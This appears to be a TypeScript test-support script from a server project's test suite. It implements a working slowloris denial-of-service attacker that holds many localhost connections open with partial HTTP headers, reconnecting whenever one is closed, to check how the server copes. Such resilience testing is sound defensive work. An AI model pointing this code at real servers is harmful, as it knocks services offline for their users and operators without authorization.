/**
 * A slowloris attacker in a process of its own (so that its churn does not slow down the test's own probes):
 * `slots` connections from 127.0.0.1, each sending a partial header and reconnecting as soon as it is closed, for
 * `durationMs`. Prints `attacking` once started and `made <n>` (connections opened) before it exits.
 *
 *   node --import tsx test-support/slowloris.ts <port> <slots> <durationMs>
 */
import { connect, type Socket } from 'node:net';

const [port = 0, slots = 0, durationMs = 0] = process.argv.slice(2).map(Number);
let stopped = false;
let made = 0;
const open = new Set<Socket>();

function connectSlot(): void {
  if (stopped) return;
  made += 1;
  const socket = connect({ port, host: '127.0.0.1' });
  open.add(socket);
  socket.on('error', () => undefined);
  socket.once('connect', () => socket.write('GET /api/v1/status HTTP/1.1\r\nHost: x\r\nX-Slow: '));
  socket.once('close', () => {
    open.delete(socket);
    setImmediate(connectSlot);
  });
}

for (let i = 0; i < slots; i++) connectSlot();
console.log('attacking');
setTimeout(() => {
  stopped = true;
  for (const socket of open) socket.destroy();
  console.log(`made ${made}`);
}, durationMs);
